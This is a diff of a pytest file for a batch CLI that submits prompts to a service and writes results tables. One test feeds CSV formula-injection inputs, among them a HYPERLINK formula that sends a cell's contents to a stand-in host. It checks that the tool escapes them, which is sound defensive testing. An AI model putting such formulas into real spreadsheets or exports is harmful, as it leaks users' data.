@@ -104,7 +104,9 @@ def test_a_batch_runs_to_its_end(served: FakeService, run: Run) -> None:
     assert {each["out_task_id"] for each in rows} == {each.out_task_id for each in served.charges}
     for each in rows:
         assert (each["model"], each["status"], each["credits"]) == ("suno_lyrics", "completed", 1)
-        assert each["error"] is None
+        assert (each["error"], each["columns"]) == (None, {})
+        assert each["params"] == {"prompt": each["prompt"]}
+        assert each["created_at"] <= each["completed_at"]
         assert each["outputs"][0]["title"] == "Últimos días, 末班列车 0"
         assert [Path(path).parent for path in each["files"]] == [Path("new/out")]
         assert Path(each["files"][0]).stat().st_size
@@ -133,21 +135,32 @@ def test_a_batch_is_summed_up_for_people(served: FakeService, run: Run) -> None:
 
 
 def test_results_may_be_a_table_that_no_spreadsheet_runs(served: FakeService, run: Run) -> None:
-    notes = ['=HYPERLINK("http://x.invalid?"&A1)', "@SUM(1)", "-1", "", "plain, text"]
+    prompts = ['=HYPERLINK("http://x.invalid?"&A1)', "@SUM(1)", "-1girl, forest", "a\nb", "plain"]
+    notes = ["", "=1", "-1", "x", "y"]
     with Path("f.csv").open("w", newline="") as file:
-        rows = [[f"rain {note}", note] for note in notes]
-        csv.writer(file).writerows([["prompt", "=notes"], *rows])
+        rows = zip(prompts, notes, range(5), strict=True)
+        csv.writer(file).writerows([["prompt", "=notes", "line"], *rows])
     options = ("-m", "suno_lyrics", "--keep-columns", "--results", "r.CSV", "--window", "1")
     assert run("f.csv", *options).status == 0
     with Path("r.CSV").open(newline="") as file:
         header, *table = csv.reader(file)
-    assert header[-1] == "'=notes"
-    assert header[:4] == ["index", "line", "out_task_id", "model"]
-    assert [row[-1] for row in table] == [f"'{note}" for note in notes[:3]] + notes[3:]
-    ids = {row[header.index("out_task_id")] for row in table}
-    assert ids == {charge.out_task_id for charge in served.charges}
-    assert json.loads(table[0][header.index("outputs")])[0]["kind"] == "text"
-    assert [row[header.index("credits")] for row in table] == ["1.0"] * 5
+    assert header[:6] == ["index", "line", "out_task_id", "model", "prompt", "status"]
+    assert header[-2:] == ["'=notes", "input_line"]
+    cells = [dict(zip(header, row, strict=True)) for row in table]
+    assert [row["prompt"] for row in cells] == [
+        *(f"'{each}" for each in prompts[:3]),
+        "a\nb",
+        "plain",
+    ]
+    assert [row["'=notes"] for row in cells] == ["", "'=1", "'-1", "x", "y"]
+    assert [row["input_line"] for row in cells] == ["0", "1", "2", "3", "4"]
+    assert {row["out_task_id"] for row in cells} == {each.out_task_id for each in served.charges}
+    assert [row["credits"] for row in cells] == ["1.0"] * 5
+    assert json.loads(cells[0]["params"]) == {"prompt": prompts[0]}
+    with Path("r.CSV").open("rb") as file:
+        read = Rows(name="r", file=file, format="csv", model="suno_lyrics", keep_columns=True)
+        again = [row.request for row in read.read()]
+    assert [each and each.params.to_params()["prompt"] for each in again] == prompts  # type: ignore[union-attr]
 
 
 def test_rows_of_a_table_are_requests(served: FakeService, run: Run) -> None:
@@ -286,7 +299,7 @@ def test_bad_usage_sends_nothing(
 ) -> None:
     ran = run(write(1), *argv)
     assert (ran.status, ran.out, served.requests) == (2, "", [])
-    assert text in ran.err.splitlines()[-2 if "got 'promt'" in text else -1]
+    assert text in ran.err.splitlines()[-1]
     assert "secret-of-the-proxy" not in ran.err
     assert Path("f.jsonl").read_text()
 
@@ -584,18 +597,20 @@ async def test_a_stopped_source_reads_no_further() -> None:
     assert list(Source(rows, 1, stop)) == []
 
 
-@pytest.mark.parametrize("name", ["/dev/full", "full.csv"])
-def test_results_that_cannot_be_written_end_the_batch(
-    served: FakeService, run: Run, name: str
-) -> None:
+def test_results_that_cannot_be_written_end_the_batch(served: FakeService, run: Run) -> None:
     """The totals are printed, and what was submitted is in the ledger."""
-    if name != "/dev/full":
-        Path(name).symlink_to("/dev/full")
-    ran = run(write(3), "--results", name, "--window", "1", "--json")
+    ran = run(write(3), "--results", "/dev/full", "--window", "1", "--json")
     assert ran.status == 1
     assert ran.document["error"]["type"] == "OSError"
     assert "No space left on device" in ran.err.splitlines()[-1]
     assert sum(states().values()) == len(served.charges) == ran.document["credits_used"] == 1
+
+
+def test_a_table_that_cannot_be_written_sends_nothing(served: FakeService, run: Run) -> None:
+    Path("full.csv").symlink_to("/dev/full")
+    ran = run(write(3), "--results", "full.csv")
+    assert (ran.status, served.requests) == (2, [])
+    assert "--results cannot be written: [Errno 28]" in ran.err
 
 
 def test_only_tasks_at_the_service_are_shown_as_running(served: FakeService, run: Run) -> None:
